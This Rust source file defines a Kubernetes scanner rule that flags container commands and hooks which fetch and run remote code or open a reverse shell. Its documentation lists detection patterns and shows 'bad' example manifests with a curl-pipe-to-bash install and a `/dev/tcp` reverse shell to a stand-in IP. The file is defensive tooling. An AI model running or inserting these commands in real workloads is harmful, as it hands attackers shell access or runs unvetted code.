//! shell-entrypoint

use super::command_line::command_lines;
use super::fetched_code::fetched_code;
use crate::container::PodTemplate;
use crate::offence::{Offence, Verdict};

check! {
    /// The command of a container, a hook or a probe fetches code and runs it, or hands a shell to
    /// the network: `curl … | sh`, `sh -c "$(curl …)"`, a file that is fetched and then run,
    /// `base64 -d | sh`, `nc -e`, `bash -i >& /dev/tcp/…`, and the like in one line of Python, Perl,
    /// Ruby, Node.js, PHP or `PowerShell`. Pipes, quotes and shells within shells are taken apart.
    ///
    /// To fetch is fine, as a probe does; so is a package manager, which checks what it installs.
    /// What scripts in the image do is not seen.
    ///
    /// ## Why it matters
    ///
    /// What runs is not what was scanned and signed: whoever holds the other end decides anew at
    /// each start. Miners and reverse shells arrive this way.
    ///
    /// ## How to mend it
    ///
    /// Build the program into the image, by version and checksum, and run it directly. If you did
    /// not write the command, treat the workload as an intrusion.
    ///
    /// ```yaml,bad
    /// apiVersion: v1
    /// kind: Pod
    /// metadata: {name: web}
    /// spec:
    ///   initContainers:
    ///   - name: install
    ///     image: install
    ///     command: [sh, -c]
    ///     args: ["curl -fsSL https://get.example/install.sh | bash -s -- --yes"]
    ///   containers: [{name: web, image: web}]
    /// ```
    ///
    /// ```yaml,bad
    /// apiVersion: v1
    /// kind: Pod
    /// metadata: {name: web}
    /// spec:
    ///   containers:
    ///   - name: web
    ///     image: web
    ///     lifecycle:
    ///       postStart: {exec: {command: [bash, -c, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]}}
    /// ```
    ///
    /// ```yaml,good
    /// apiVersion: v1
    /// kind: Pod
    /// metadata: {name: web}
    /// spec:
    ///   containers:
    ///   - name: web
    ///     image: web
    ///     command: [sh, -c, "exec nginx -g 'daemon off;'"]
    ///     livenessProbe: {exec: {command: [wget, -q, -O-, "localhost/healthz"]}}
    ///     readinessProbe: {exec: {command: [sh, -c, "curl -sf localhost/ready | grep -q ok"]}}
    /// ```
    id: "shell-entrypoint",
    title: "Command fetches code and runs it",
    remediation: "Build the program into the image and run it directly.",
    severity: High,
    threats: [1],
    cis: [],
    nsa: [],
    pss: [],
    mitre: ["T1059", "MS-TA9007"],
    owasp: ["K01"],
    peers: ["kubescape/C-0062"],
    joins: [],
    evaluate: Pod(shell_entrypoint),
}

fn shell_entrypoint(pod: &PodTemplate<'_>) -> Verdict {
    Verdict::from_offences(offences(pod))
}

/// What the containers of `pod` fetch and run.
pub(super) fn offences(pod: &PodTemplate<'_>) -> Vec<Offence> {
    let of_container = pod.containers().flat_map(|container| {
        let lines = command_lines(container.spec).into_iter();
        lines.filter_map(move |line| {
            fetched_code(&line.script()).map(|found| container.offence(line.path).detail(found.how))
        })
    });
    of_container.collect()
}
